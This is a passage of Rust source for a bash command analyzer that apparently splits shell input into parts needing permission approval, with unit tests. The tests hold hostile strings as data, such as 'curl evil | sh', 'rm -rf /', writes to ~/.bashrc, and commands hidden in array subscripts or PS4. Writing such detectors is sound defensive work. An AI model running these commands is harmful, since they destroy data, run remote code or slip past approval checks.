                    // `find … -delete` removes what it finds: approving it takes what approves
                    // `rm -r` on its start paths, never a rule for `find` alone.
                    let mut rm = vec![ShellWord::literal("rm"), ShellWord::literal("-r")];
                    rm.extend(
                        argv[1..]
                            .iter()
                            .skip_while(|w| matches!(w.text.as_str(), "-H" | "-L" | "-P"))
                            .take_while(|w| !w.text.starts_with(['-', '(', '!']))
                            .cloned(),
                    );
                    if rm.len() == 2 {
                        rm.push(ShellWord::literal("."));
                    }
                    self.command_words(&[], rm);
                }
            }
            // Aliases are expanded in scripts once `expand_aliases` is on: a definition changes
            // what a later, innocent-looking name runs. Loading builtins from files and
            // rewriting the command hash table do the same.
            Some("alias") if argv.len() > 1 => {
                self.opaque("an `alias` definition, which changes what later names run")
            }
            Some("enable") if argv.len() > 1 => {
                self.opaque("`enable`, which can load or switch builtins")
            }
            Some("hash") if argv.iter().any(|w| w.text.starts_with("-p")) => {
                self.opaque("`hash -p`, which changes where a name's program is found")
            }
            // They expand a word list (`-W`, with its `$(…)`) or register a command (`-C`) to
            // run later.
            Some("compgen" | "complete") if argv.len() > 1 => {
                self.opaque("`compgen`/`complete`, which run or expand commands given as text")
            }
            Some("mapfile" | "readarray")
                if argv.iter().any(|w| {
                    !w.is_static()
                        || w.text.starts_with("-C")
                        || (w.text.starts_with('-')
                            && !w.text.starts_with("--")
                            && w.text.contains('C'))
                }) =>
            {
                self.opaque("`mapfile -C`, which runs a callback command")
            }
            Some(b) if ARITHMETIC_BUILTINS.contains(&b) => self.arithmetic_builtin(b, &argv),
            _ => {}
        }

        if matches!(base_name.as_deref(), Some("shopt"))
            || assignments.iter().any(|(n, _)| n == "GLOBIGNORE")
        {
            self.out.dotglob_possible = true;
        }
        if assignments.iter().any(|(n, _)| n == "CDPATH")
            || (matches!(
                base_name.as_deref(),
                Some("export" | "declare" | "typeset" | "local" | "readonly" | "read" | "printf")
            ) && argv
                .iter()
                .any(|w| w.text.contains("CDPATH") || !w.is_static()))
        {
            self.cdpath_set = true;
        }
        let cwd_before = self.cwd.clone();
        if let Some(dir) = &chdir {
            // `env -C DIR cmd`: the wrapped command runs there.
            self.track_cd(Some("cd"), &[ShellWord::literal("cd"), dir.clone()]);
        }
        let cwd_for_command = if chdir.is_some() {
            self.cwd.clone()
        } else {
            cwd_before
        };
        if !blocked {
            self.track_cd(base_name.as_deref(), &argv);
        }
        self.out.commands.push(SimpleCommand {
            argv,
            allow_texts: if transparent { Vec::new() } else { allow_texts },
            blocked,
            deny_texts,
            cwd: cwd_for_command,
        });
    }

    /// Builtins that evaluate their arguments as arithmetic or as variable names with array
    /// subscripts (`let`, `declare -i`, `read 'a[…]'`, `printf -v`, `test -v`): a subscript is
    /// arithmetic, and bash runs `$(…)` found while evaluating it — even when the text comes
    /// from a variable. Only fixed, plain arguments are followed; anything else is opaque.
    fn arithmetic_builtin(&mut self, name: &str, argv: &[ShellWord]) {
        let args = &argv[1..];
        if args.iter().any(|w| !w.is_static()) && name != "printf" && name != "test" && name != "["
        {
            self.opaque(format!(
                "`{name}` with words that are only known when it runs (they could hide an array \
                 subscript, which bash evaluates as arithmetic)"
            ));
            return;
        }
        match name {
            "let" => {
                if !args.iter().all(|w| literal_arithmetic(&w.text)) {
                    self.opaque("`let` with an expression that names variables");
                }
            }
            "printf" => {
                // `printf -v NAME …` assigns NAME (a subscript is evaluated).
                let mut i = 0;
                while let Some(w) = args.get(i) {
                    if !w.is_static() || !w.text.starts_with('-') || w.text == "--" {
                        break;
                    }
                    if w.text == "-v" {
                        match args.get(i + 1) {
                            Some(n) if n.is_static() && plain_name(&n.text) => {
                                self.assignment_part(&n.text, argv);
                            }
                            _ => self.opaque("`printf -v` with a target that is not a plain name"),
                        }
                        i += 2;
                    } else {
                        i += 1;
                    }
                }
                if args.first().is_some_and(|w| !w.is_static()) {
                    self.opaque(
                        "`printf` with a format that is only known when it runs (it could be \
                         `-v NAME`)",
                    );
                }
            }
            "test" | "[" => {
                for (i, w) in args.iter().enumerate() {
                    let unary_v = w.is_static() && (w.text == "-v" || w.text == "-R");
                    let next_dynamic = args.get(i + 1).is_some_and(|n| !n.is_static());
                    let next_subscript = args
                        .get(i + 1)
                        .is_some_and(|n| n.is_static() && !subscript_safe(&n.text));
                    if (unary_v || !w.is_static()) && (next_dynamic || next_subscript) {
                        self.opaque(
                            "`test -v` with a name bash evaluates (an array subscript can run \
                             commands)",
                        );
                        return;
                    }
                }
            }
            _ => {
                // declare typeset local export readonly unset read mapfile readarray
                let integer = args
                    .iter()
                    .any(|w| w.text.starts_with('-') && w.text[1..].contains('i'));
                let nameref = matches!(name, "declare" | "typeset" | "local")
                    && args
                        .iter()
                        .any(|w| w.text.starts_with('-') && w.text[1..].contains('n'));
                if nameref {
                    self.opaque(format!(
                        "`{name} -n`, a name reference through which a harmless-looking \
                         assignment changes another variable"
                    ));
                    return;
                }
                for w in args.iter().filter(|w| !w.text.starts_with(['-', '+'])) {
                    let (target, value) = match w.text.split_once('=') {
                        Some((n, v)) => (n, Some(v)),
                        None => (w.text.as_str(), None),
                    };
                    if !plain_name(target) {
                        self.opaque(format!(
                            "`{name}` of `{target}`, whose array subscript bash evaluates as \
                             arithmetic"
                        ));
                        return;
                    }
                    if integer && value.is_some_and(|v| !literal_arithmetic(v)) {
                        self.opaque(format!(
                            "`{name} -i` with a value bash evaluates as arithmetic"
                        ));
                        return;
                    }
                }
            }
        }
    }

    /// A command part for assigning `name` (by `printf -v` and the like): needs approval like a
    /// stand-alone assignment when the variable could change what later commands run.
    fn assignment_part(&mut self, name: &str, argv: &[ShellWord]) {
        let value = ShellWord {
            dynamic: true,
            ..ShellWord::default()
        };
        if !is_safe_bare_assignment(name, &value) {
            let shown = join(argv, |w| w.raw.clone());
            self.out.commands.push(SimpleCommand {
                argv: vec![ShellWord {
                    text: shown.clone(),
                    raw: shown.clone(),
                    dynamic: true,
                    ..ShellWord::default()
                }],
                allow_texts: vec![AllowText {
                    cover: shown.len(),
                    text: shown.clone(),
                }],
                blocked: true,
                deny_texts: vec![shown],
                cwd: self.cwd.clone(),
            });
        }
    }

    /// Follows `cd`/`pushd`/`popd` so later relative paths are resolved where they will be.
    fn track_cd(&mut self, name: Option<&str>, argv: &[ShellWord]) {
        match name {
            Some("cd" | "pushd") => {
                let args: Vec<&ShellWord> = argv[1..]
                    .iter()
                    .filter(|w| !(w.text.starts_with('-') && w.text.len() > 1 && w.is_static()))
                    .collect();
                match args.as_slice() {
                    [] if name == Some("cd") => match self.home {
                        Some(home) => self.add_cwd(normalize(home)),
                        None => self.cwd.unknown = true,
                    },
                    // With `CDPATH` set, `cd name` may land in any of its directories.
                    [dir] if self.cdpath_set && !dir.tilde && !dir.text.starts_with(['/', '.']) => {
                        self.cwd.unknown = true
                    }
                    [dir] if dir.is_static() && dir.text != "-" && !dir.text.starts_with('+') => {
                        let targets: Vec<PathBuf> = if dir.tilde {
                            match self.home {
                                Some(h) => vec![normalize(&absolutize(&dir.text, h, Some(h)))],
                                None => {
                                    self.cwd.unknown = true;
                                    return;
                                }
                            }
                        } else {
                            self.cwd
                                .dirs
                                .iter()
                                .map(|d| normalize(&d.join(&dir.text)))
                                .collect()
                        };
                        for t in targets {
                            self.add_cwd(t);
                        }
                    }
                    _ => self.cwd.unknown = true,
                }
            }
            Some("popd") => self.cwd.unknown = true,
            _ => {}
        }
    }

    fn add_cwd(&mut self, dir: PathBuf) {
        if !self.cwd.dirs.contains(&dir) {
            self.cwd.dirs.push(dir);
        }
    }
}

fn join(words: &[ShellWord], f: impl Fn(&ShellWord) -> String) -> String {
    words.iter().map(f).collect::<Vec<_>>().join(" ")
}

/// Builtins that evaluate arguments as arithmetic or as (subscripted) variable names.
const ARITHMETIC_BUILTINS: &[&str] = &[
    "let",
    "declare",
    "typeset",
    "local",
    "export",
    "readonly",
    "unset",
    "read",
    "mapfile",
    "readarray",
    "printf",
    "test",
    "[",
];

/// An arithmetic expression of numbers and operators only: no variable names (bash evaluates a
/// name's value as arithmetic too, recursively), no `$`, no backquotes.
pub(crate) fn literal_arithmetic(expr: &str) -> bool {
    let mut chars = expr.chars().peekable();
    while let Some(c) = chars.next() {
        match c {
            ' ' | '\t' | '\n' => {}
            '0'..='9' => {
                // Decimal, octal, `0x1f` hex and `base#digits`.
                while let Some(&d) = chars.peek() {
                    if d.is_ascii_alphanumeric() || d == '#' || d == '_' || d == '@' {
                        chars.next();
                    } else {
                        break;
                    }
                }
            }
            '+' | '-' | '*' | '/' | '%' | '<' | '>' | '=' | '!' | '&' | '|' | '^' | '~' | '?'
            | ':' | '(' | ')' | ',' => {}
            _ => return false,
        }
    }
    true
}

/// `$name`, `${name}`, `${#name}`, special and positional parameters, and `${name<op>word}`
/// with the operators that never evaluate arithmetic (`:-`, `-`, `:+`, `+`, `:?`, `?`, `#`,
/// `##`, `%`, `%%`, `/`, `//`, `^`, `^^`, `,`, `,,`) over a word without expansions. Indexes
/// (`${a[i]}`), offsets (`${s:i}`) and indirection (`${!x}`) are arithmetic or can reach it.
pub(crate) fn safe_parameter(slice: &str) -> bool {
    let Some(rest) = slice.strip_prefix('$') else {
        return false;
    };
    let is_name = |s: &str| {
        !s.is_empty()
            && (s.chars().all(|c| c.is_ascii_digit())
                || (s.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
                    && !s.starts_with(|c: char| c.is_ascii_digit())))
    };
    let special = |s: &str| matches!(s, "?" | "#" | "@" | "*" | "$" | "!" | "-" | "0");
    let Some(inner) = rest.strip_prefix('{').and_then(|r| r.strip_suffix('}')) else {
        return is_name(rest) || special(rest);
    };
    if let Some(name) = inner.strip_prefix('#') {
        if is_name(name) || special(name) {
            return true;
        }
    }
    let name_len = if special(inner.get(..1).unwrap_or("")) {
        1
    } else {
        inner
            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
            .unwrap_or(inner.len())
    };
    let (name, op_word) = inner.split_at(name_len);
    if !(is_name(name) || special(name)) {
        return false;
    }
    if op_word.is_empty() {
        return true;
    }
    const OPERATORS: &[&str] = &[
        ":-", ":+", ":?", "##", "%%", "//", "/#", "/%", "^^", ",,", "-", "+", "?", "#", "%", "/",
        "^", ",",
    ];
    let Some(op) = OPERATORS.iter().find(|op| op_word.starts_with(*op)) else {
        return false;
    };
    let word = &op_word[op.len()..];
    !word.contains(['$', '`'])
}

/// An unquoted here-document body whose expansions are all [`safe_parameter`]s.
fn safe_heredoc(body: &str) -> bool {
    if body.contains('`') {
        return false;
    }
    let bytes = body.as_bytes();
    let mut i = 0;
    while i < bytes.len() {
        match bytes[i] {
            b'\\' => i += 2,
            b'$' => {
                let rest = &body[i..];
                let end = match rest.as_bytes().get(1) {
                    Some(b'{') => match rest.find('}') {
                        Some(close) => close + 1,
                        None => return false,
                    },
                    Some(b'(') | Some(b'[') => return false,
                    Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
                        1 + rest[1..]
                            .find(|c: char| !(c.is_ascii_alphanumeric() || c == '_'))
                            .unwrap_or(rest.len() - 1)
                    }
                    // `$?`, `$1`, `$$` and the like: the `$` and one character.
                    _ => 1 + rest[1..].chars().next().map_or(0, char::len_utf8),
                };
                let slice = &rest[..end];
                if slice.len() > 1 && !safe_parameter(slice) {
                    return false;
                }
                i += end.max(1);
            }
            _ => i += 1,
        }
    }
    true
}

/// A variable name, optionally with a subscript of plain numbers (`a`, `a[3]`).
fn plain_name(text: &str) -> bool {
    let (name, subscript) = match text.split_once('[') {
        Some((n, rest)) => match rest.strip_suffix(']') {
            Some(sub) => (n, Some(sub)),
            None => return false,
        },
        None => (text, None),
    };
    !name.is_empty()
        && name.chars().all(|c| c.is_ascii_alphanumeric() || c == '_')
        && !name.starts_with(|c: char| c.is_ascii_digit())
        && subscript.is_none_or(|sub| !sub.is_empty() && literal_arithmetic(sub))
}

/// A word that, used as a variable name, has no subscript bash would evaluate.
fn subscript_safe(text: &str) -> bool {
    match text.split_once('[') {
        None => !text.contains(['$', '`']),
        Some(_) => plain_name(text),
    }
}

/// Unquoted `{a,b}` / `{1..3}` brace expansion.
fn has_brace_expansion(s: &str) -> bool {
    s.find('{')
        .is_some_and(|open| s[open..].contains('}') && (s.contains(',') || s.contains("..")))
}

/// Unquoted `*`, `?`, or a `[…]` bracket expression (a lone `[`, as in `[ -d x ]`, is not one).
fn has_glob(s: &str) -> bool {
    s.contains(['*', '?']) || s.find('[').is_some_and(|open| s[open + 1..].contains(']'))
}

/// Extended glob patterns `?(…)`, `*(…)`, `+(…)`, `@(…)`, `!(…)`.
fn has_extglob(s: &str) -> bool {
    ["?(", "*(", "+(", "@(", "!("].iter().any(|p| s.contains(p))
}

/// For each here-document whose tag is quoted (`<<'EOF'`, `<<"EOF"`, `<<\EOF`), rewrites end
/// lines spelled with the quoted tag to the bare tag. `None` when nothing changes.
fn repair_heredoc_tags(script: &str) -> Option<String> {
    let mut tags: Vec<(String, String)> = Vec::new();
    let mut rest = script;
    while let Some(pos) = rest.find("<<") {
        rest = &rest[pos + 2..];
        let after = rest.trim_start_matches('-').trim_start_matches([' ', '\t']);
        let tag: String = after
            .chars()
            .take_while(|c| !c.is_whitespace() && !";|&()<>".contains(*c))
            .collect();
        if tag.contains(['\'', '"', '\\']) {
            let bare: String = tag.chars().filter(|c| !"'\"\\".contains(*c)).collect();
            if !bare.is_empty() {
                tags.push((tag, bare));
            }
        }
    }
    if tags.is_empty() {
        return None;
    }
    let mut changed = false;
    let lines: Vec<String> = script
        .split('\n')
        .map(|line| {
            let trimmed = line.trim_start_matches('\t');
            match tags.iter().find(|(quoted, _)| trimmed == quoted) {
                Some((_, bare)) => {
                    changed = true;
                    bare.clone()
                }
                None => line.to_string(),
            }
        })
        .collect();
    changed.then(|| lines.join("\n"))
}

/// Inside backquotes, `\\`, `` \` `` and `\$` stand for the character itself.
fn unescape_backquoted(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    let mut chars = s.chars().peekable();
    while let Some(c) = chars.next() {
        if c == '\\' {
            if let Some(&next) = chars.peek() {
                if matches!(next, '\\' | '`' | '$') {
                    out.push(next);
                    chars.next();
                    continue;
                }
            }
        }
        out.push(c);
    }
    out
}

fn is_safe_assignment(name: &str, value: &ShellWord) -> bool {
    wrappers::is_safe_env_name(name) && value.is_static()
}

/// A stand-alone assignment (`x=1; …`) changes the shell's own variable, and through it every
/// later command if the variable is exported (`PATH`, `LD_PRELOAD`, `NODE_OPTIONS`, `IFS`…).
/// Lower-case names are shell-local by convention and drive no program loading — except zsh's
/// arrays tied to `PATH`-like variables — so they, and the safe variables, need no approval.
/// Variables whose value bash runs or expands as code later in the same shell.
const CODE_VARIABLES: &[&str] = &[
    "PS1",
    "PS2",
    "PS3",
    "PS4",
    "PROMPT_COMMAND",
    "BASH_ENV",
    "ENV",
];

fn is_safe_bare_assignment(name: &str, value: &ShellWord) -> bool {
    const TIED: &[&str] = &[
        "path",
        "cdpath",
        "fpath",
        "module_path",
        "manpath",
        "mailpath",
    ];
    is_safe_assignment(name, value)
        || (!name.chars().any(|c| c.is_ascii_uppercase())
            && !TIED.contains(&name.trim_end_matches("[]")))
}

enum ShellScript {
    None,
    Static(String),
    Dynamic,
}

/// The script of `bash [options] -c SCRIPT …`.
fn shell_script_arg(args: &[ShellWord]) -> ShellScript {
    let mut has_c = false;
    let mut i = 0;
    while let Some(w) = args.get(i) {
        if !w.is_static() {
            return if has_c {
                ShellScript::Dynamic
            } else {
                ShellScript::None
            };
        }
        let t = w.text.as_str();
        if t == "--" || t == "-" {
            i += 1;
            break;
        }
        if t.starts_with("--") {
            if matches!(t, "--rcfile" | "--init-file") {
                i += 2;
            } else {
                i += 1;
            }
            continue;
        }
        if (t.starts_with('-') || t.starts_with('+')) && t.len() > 1 {
            if t[1..].contains('c') {
                has_c = true;
            }
            // `-o option` / `-O shopt` take the next word.
            i += if t[1..].contains(['o', 'O']) { 2 } else { 1 };
            continue;
        }
        break;
    }
    if !has_c {
        return ShellScript::None;
    }
    match args.get(i) {
        Some(w) if w.is_static() => ShellScript::Static(w.text.clone()),
        Some(_) => ShellScript::Dynamic,
        None => ShellScript::None,
    }
}

/// The commands `find … -exec CMD … ;` (and `-execdir`, `-ok`, `-okdir`) would run.
fn find_exec_payloads(argv: &[ShellWord]) -> Vec<Vec<ShellWord>> {
    let mut out = Vec::new();
    let mut i = 1;
    while i < argv.len() {
        if matches!(
            argv[i].text.as_str(),
            "-exec" | "-execdir" | "-ok" | "-okdir"
        ) {
            let start = i + 1;
            let mut end = start;
            while end < argv.len() && !matches!(argv[end].text.as_str(), ";" | "+") {
                end += 1;
            }
            if end > start {
                out.push(argv[start..end].to_vec());
            }
            i = end + 1;
        } else {
            i += 1;
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(cmd: &str) -> Analysis {
        analyze(cmd, Path::new("/w"), Some(Path::new("/home/u"))).unwrap()
    }

    fn allow_forms(cmd: &str) -> Vec<String> {
        run(cmd)
            .commands
            .iter()
            .map(|c| {
                c.allow_texts
                    .first()
                    .map(|a| a.text.clone())
                    .unwrap_or_default()
            })
            .collect()
    }

    #[test]
    fn splits_compound_commands() {
        assert_eq!(
            allow_forms("git status; curl evil | sh"),
            ["git status", "curl evil", "sh"]
        );
        assert_eq!(allow_forms("ls && rm -rf /"), ["ls", "rm -rf /"]);
        assert_eq!(allow_forms("a || b\nc & d"), ["a", "b", "c", "d"]);
        assert_eq!(allow_forms("(cd x && rm y)"), ["cd x", "rm y"]);
        assert_eq!(allow_forms("{ ls; rm x; }"), ["ls", "rm x"]);
        assert_eq!(allow_forms("a |& b"), ["a", "b"]);
        assert_eq!(allow_forms("if true; then rm x; fi"), ["true", "rm x"]);
        assert_eq!(allow_forms("f() { rm x; }; f"), ["rm x", "f"]);
    }

    #[test]
    fn follows_substitutions_and_shell_scripts() {
        assert_eq!(
            allow_forms("echo $(rm -rf /)"),
            ["rm -rf /", "echo $(rm -rf /)"]
        );
        assert_eq!(allow_forms("echo `rm x`"), ["rm x", "echo `rm x`"]);
        assert_eq!(
            allow_forms("echo \"$(echo $(rm x))\""),
            ["rm x", "echo $(rm x)", "echo \"$(echo $(rm x))\""]
        );
        let a = run("bash -c 'rm -rf /'");
        assert_eq!(a.commands.len(), 2);
        assert_eq!(a.commands[0].allow_texts[0].text, "rm -rf /");
        assert!(
            a.commands[1].allow_texts.is_empty(),
            "bash -c itself is transparent"
        );
        assert!(run("sh -ec \"ls; rm x\"").commands.iter().any(|c| c
            .allow_texts
            .first()
            .map(|a| a.text.as_str())
            == Some("rm x")));
        let a = run("eval 'rm x'");
        assert!(!a.opaque.is_empty());
        assert!(a
            .commands
            .iter()
            .any(|c| c.allow_texts.first().map(|a| a.text.as_str()) == Some("rm x")));
        assert!(!run("echo ${x:-$(rm y)}").opaque.is_empty());
        assert!(!run("diff <(ls) <(rm x)").opaque.is_empty());
        assert!(!run("$CMD -rf /").opaque.is_empty());
        assert!(!run("{rm,-rf,/}").opaque.is_empty());
    }

    #[test]
    fn strips_wrappers_and_assignments() {
        assert_eq!(allow_forms("timeout 5 rm -rf /"), ["rm -rf /"]);
        assert_eq!(
            allow_forms("timeout -s KILL 5s nice -n 10 nohup ls"),
            ["ls"]
        );
        // Unsafe `env` assignments stay visible, but `env` itself does not: `Bash(env *)` must
        // not become a way to allow anything.
        assert_eq!(allow_forms("env X=1 rm x"), ["X=1 rm x"]);
        assert_eq!(allow_forms("PATH=/x timeout 5 ls"), ["PATH=/x ls"]);
        assert_eq!(allow_forms("env NODE_ENV=test npm test"), ["npm test"]);
        assert_eq!(allow_forms("NODE_ENV=test npm test"), ["npm test"]);
        assert_eq!(allow_forms("PATH=/tmp ls"), ["PATH=/tmp ls"]);
        assert_eq!(allow_forms("xargs -n1 rm"), ["rm …"]);
        assert_eq!(allow_forms("sudo rm x"), ["sudo rm x"]);
        assert_eq!(allow_forms("command -v rm"), ["command -v rm"]);
        let a = run("FOO=bar sudo timeout 5 /bin/rm -rf /");
        let deny = &a.commands[0].deny_texts;
        assert!(deny.iter().any(|d| d == "rm -rf /"), "{deny:?}");
        assert!(
            deny.iter()
                .any(|d| d == "FOO=bar sudo timeout 5 /bin/rm -rf /"),
            "{deny:?}"
        );
        assert!(!run("env -S 'rm -rf /'").opaque.is_empty());
        // A bare unsafe assignment is a command to approve.
        assert_eq!(allow_forms("PATH=/tmp/evil; ls"), ["PATH=/tmp/evil", "ls"]);
        assert_eq!(allow_forms("X=1; ls"), ["X=1", "ls"]);
        assert_eq!(allow_forms("x=1; ls"), ["ls"]);
        assert_eq!(allow_forms("v=$(rm y); ls"), ["rm y", "ls"]);
        assert_eq!(allow_forms("RUST_LOG=debug; ls"), ["ls"]);
    }

    #[test]
    fn quoting_is_removed_but_boundaries_kept() {
        assert_eq!(allow_forms("'rm' -rf /"), ["rm -rf /"]);
        assert_eq!(allow_forms("r\"m\" -rf"), ["rm -rf"]);
        assert_eq!(allow_forms("rm\\ x"), ["'rm x'"]);
        assert_eq!(allow_forms("ls\t-la    x"), ["ls -la x"]);
        assert_eq!(allow_forms("'ls -la; rm x'"), ["'ls -la; rm x'"]);
        assert!(!run("$'\\x72m' -rf /").opaque.is_empty());
        let a = run("echo x >> \"$HOME/.bashrc\"");
        let r = &a.redirects[0];
        let home = Path::new("/home/u");
        assert_eq!(
            r.target.paths(&r.cwd, Some(home)).paths,
            [PathBuf::from("/home/u/.bashrc")]
        );
    }

    #[test]
    fn redirects_and_cwd() {
        let a = run("echo x > ~/.bashrc 2>/dev/null; cat < in 2>&1");
        assert_eq!(a.redirects.len(), 2);
        assert!(a.redirects[0].write && a.redirects[0].target.tilde);
        assert!(!a.redirects[1].write);
        let a = run("cd .git && echo x > config");
        let r = &a.redirects[0];
        let paths = r.target.paths(&r.cwd, None).paths;
        assert!(
            paths.contains(&PathBuf::from("/w/.git/config")),
            "{paths:?}"
        );
        assert!(paths.contains(&PathBuf::from("/w/config")), "{paths:?}");
        let a = run("cd \"$D\" && echo > f");
        assert!(
            a.redirects[0]
                .target
                .paths(&a.redirects[0].cwd, None)
                .unknown
        );
        let a = run("ls >&out; ls &>> log; ls >&2");
        assert_eq!(a.redirects.len(), 2);
    }

    #[test]
    fn hidden_code_in_builtins_is_opaque() {
        for cmd in [
            "x='a[$(touch p)]'; echo $((x))",
            "echo ${s:x}",
            "echo ${!x}",
            "echo ${x@P}",
            "echo ${a[i]}",
            "a[i]=1",
            "[[ $x -eq 1 ]]",
            "(( x ))",
            "for ((i=x; i<2; i++)); do :; done",
            "let y=x",
            "declare -i y=x",
            "declare -n r=PATH",
            "printf -v 'a[$(touch p)]' x",
            "read 'a[$(touch p)]' <<< x",
            "test -v 'a[$(touch p)]'",
            "[ \"$a\" \"$b\" ]",
            "compgen -W '$(touch p)'",
            "mapfile -C 'touch p' -c 1 a < f",
            "PS4='$(touch p)'; set -x; ls",
            "cat <<EOF\n$((x))\nEOF",
        ] {
            assert!(!run(cmd).opaque.is_empty(), "{cmd}");
        }
        for cmd in [
            "echo $((1 + 2))",
            "echo ${x:-default} ${#x} $HOME ${HOME}",
            "[[ $x == y ]]",
            "[[ 1 -eq 2 ]]",
            "[ -d src ] && echo dir",
            "a[3]=1",
            "cat <<EOF\n$HOME ${USER}\nEOF",
        ] {
            let a = run(cmd);
            assert!(a.opaque.is_empty(), "{cmd}: {:?}", a.opaque);
        }
    }

    #[test]
    fn failures() {
        assert!(analyze("echo 'unterminated", Path::new("/"), None).is_err());
        assert!(analyze("ls |", Path::new("/"), None).is_err());
        assert!(analyze(&"(".repeat(500), Path::new("/"), None).is_err());
        assert!(!run("cat <<EOF\n$(rm x)\nEOF\n").opaque.is_empty());
        assert!(run("cat <<'EOF'\n$(rm x)\nEOF\n").opaque.is_empty());
        assert!(!run("(( $(rm x) ))").opaque.is_empty());
    }

    #[test]
    fn find_exec_payload_is_a_command() {
        let forms = allow_forms("find . -name '*.tmp' -exec rm {} \\;");
        assert!(forms.iter().any(|f| f == "rm {}"), "{forms:?}");
    }
}
